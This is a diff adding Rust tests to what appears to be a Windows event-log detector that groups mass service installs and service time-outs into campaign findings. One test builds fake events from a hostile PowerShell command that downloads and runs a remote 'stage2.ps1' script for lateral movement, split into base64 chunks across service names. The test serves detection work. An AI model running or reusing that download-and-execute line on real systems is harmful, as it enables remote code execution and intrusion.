@@ -755,3 +755,110 @@ fn own_address_traffic_does_not_make_a_remote_install_local() {
         "{with_more:#?}"
     );
 }
+
+/// A Tchopper-style mass deployment: 40 services from one account within minutes, the payload
+/// split across their display names as base64, rebuilt in install order.
+#[test]
+fn a_mass_deployment_is_one_finding_with_its_decoded_payload() {
+    use base64::Engine as _;
+    let payload = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://10.66.0.9/stage2.ps1'); Invoke-Stage2 -Mode lateral -Targets all";
+    let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
+    let mut events = vec![logon("FS02", 0, 0x88)];
+    for (k, chunk) in b64.as_bytes().chunks(8).enumerate() {
+        let name = String::from_utf8_lossy(chunk).into_owned();
+        let ms = 1_000 + i64::try_from(k).unwrap() * 3_000;
+        events.push(install_4697("FS02", ms, 0x88, &name, "%COMSPEC% /c exit"));
+    }
+    let n = events.len() - 1;
+    assert!(n >= 20);
+    let f = scan("default", events);
+    let visible: Vec<&Finding> = f.iter().filter(|f| !f.is_suppressed()).collect();
+    assert_eq!(
+        visible.len(),
+        1,
+        "one finding per campaign: {:#?}",
+        visible
+            .iter()
+            .map(|f| (&f.id, f.service_label()))
+            .collect::<Vec<_>>()
+    );
+    let c = visible[0].campaign.as_ref().unwrap_or_else(|| {
+        panic!(
+            "{} services {:?}",
+            visible[0].services.len(),
+            visible[0].score_breakdown
+        )
+    });
+    assert_eq!(c.count, n);
+    assert!(
+        c.pattern
+            .as_deref()
+            .unwrap_or("")
+            .contains("DownloadString"),
+        "{c:?}"
+    );
+    assert!(visible[0].severity >= Severity::Medium);
+    assert!(
+        visible[0].score <= 100
+            || visible[0]
+                .score_breakdown
+                .iter()
+                .any(|p| p.name == "campaign")
+    );
+}
+
+#[test]
+fn a_products_mass_install_is_one_low_finding() {
+    // 30 services of one product by the deployment account: grouped, named, not raised.
+    let mut events = vec![logon("APP01", 0, 0x99)];
+    for k in 0..30 {
+        events.push(install_4697(
+            "APP01",
+            1_000 + k * 2_000,
+            0x99,
+            &format!("AcmeAgent{k:02}"),
+            &format!("C:\\Program Files\\Acme\\agent{k:02}.exe"),
+        ));
+    }
+    let f = scan("default", events);
+    let visible: Vec<&Finding> = f.iter().filter(|f| !f.is_suppressed()).collect();
+    assert!(visible.len() <= 1, "{}", visible.len());
+    for f in &visible {
+        assert!(f.severity < Severity::Medium, "{:?}", f.score_breakdown);
+        if let Some(c) = &f.campaign {
+            assert_eq!(c.pattern, None);
+        }
+    }
+}
+
+#[test]
+fn start_timeouts_of_random_names_are_one_finding() {
+    let names = [
+        "xKdLmQpZ", "RtUfWbNa", "pLoKiJuH", "ZxCvBnMa", "QwErTyUi", "AsDfGhJk", "MnBvCxZa",
+        "PoIuYtRe", "LkJhGfDs", "VbNmQwEr", "TgByHnUj", "IkOlPzXc",
+    ];
+    let mut events = Vec::new();
+    for (k, n) in names.iter().enumerate() {
+        let mut e = ev(
+            "WS09",
+            i64::try_from(k).unwrap() * 5_000,
+            Channel::System,
+            7009,
+        )
+        .done();
+        e.fields.service.name = Some((*n).into());
+        events.push(e);
+    }
+    let f = scan("default", events.clone());
+    assert_eq!(f.len(), 1, "{f:#?}");
+    let c = f[0].campaign.as_ref().unwrap();
+    assert_eq!(c.count, names.len());
+    assert!(
+        f[0].severity >= Severity::Medium,
+        "{:?}",
+        f[0].score_breakdown
+    );
+    // A few time-outs of a real service are not a campaign.
+    let few: Vec<Event> = events.into_iter().take(3).collect();
+    assert!(scan("default", few).is_empty());
+}
